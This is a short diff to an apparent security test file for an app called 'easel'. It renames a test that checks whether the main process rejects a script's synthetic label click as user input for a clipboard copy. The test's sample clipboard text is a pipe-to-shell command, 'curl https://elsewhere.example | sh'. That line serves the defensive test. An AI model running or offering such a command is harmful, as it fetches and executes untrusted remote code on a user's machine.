@@ -90,7 +90,7 @@ async function run(
   return page.evaluate(`(${text})(${JSON.stringify(address)})`);
 }
 
-test('a script’s click on a label is no user input that main would accept', async ({ easel }) => {
+test('main does not accept a script’s click on a label as user input', async ({ easel }) => {
   const code = `const label = add('label'); label.append(document.createElement('input')); label.click();
     const { ok, error } = await window.easel.app.copy({ text: 'curl https://elsewhere.example | sh' });
     return ok || error.code !== 'needs-press'`;
